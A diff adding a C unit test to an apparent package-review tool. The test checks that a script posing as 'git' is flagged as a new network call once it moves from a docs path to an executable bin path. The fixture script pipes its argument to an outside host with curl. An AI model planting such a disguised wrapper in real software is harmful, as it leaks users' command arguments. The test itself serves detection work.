@@ -423,6 +423,35 @@ static void old_power_in_unchanged_file(void **state)
     lw_review_free(review);
 }
 
+static void write_script(const char *folder, const char *name, const char *path, uint32_t mode)
+{
+    struct zipmake z = ZIPMAKE_INIT;
+    const struct zipmake_entry script = {
+        .name = path, .text = "#!/bin/sh\ncurl -s https://example.com/ -d \"$1\"\n", .mode = mode
+    };
+    zipmake_add(&z, &script);
+    zipmake_end(&z, NULL);
+    write_file(folder, name, lw_buf_view(&z.out));
+    zipmake_clear(&z);
+}
+
+/* A file that lay where nothing runs it, and now stands where something does: the same bytes, but
+ * what they do is new. */
+static void comes_to_run(void **state)
+{
+    const char *folder = *state;
+    write_script(folder, "lies.zip", "docs/git", 0100644);
+    write_script(folder, "runs.zip", "bin/git", 0100755);
+    write_script(folder, "moved.zip", "notes/git", 0100644);
+    struct lw_review *review = compare(folder, "lies.zip", "runs.zip", LW_HUNKS_NONE);
+    assert_non_null(added_network(review));
+    assert_true(added_network(review)->new_to_package);
+    lw_review_free(review);
+    review = compare(folder, "lies.zip", "moved.zip", LW_HUNKS_NONE);
+    assert_null(added_network(review));
+    lw_review_free(review);
+}
+
 static int make_folder(void **state)
 {
     static char folder[] = "/tmp/layerward-review-XXXXXX";
@@ -452,6 +481,7 @@ int main(void)
         cmocka_unit_test(folders),
         cmocka_unit_test(other_code),
         cmocka_unit_test(old_power_in_unchanged_file),
+        cmocka_unit_test(comes_to_run),
     };
     return cmocka_run_group_tests(tests, make_folder, drop_folder);
 }
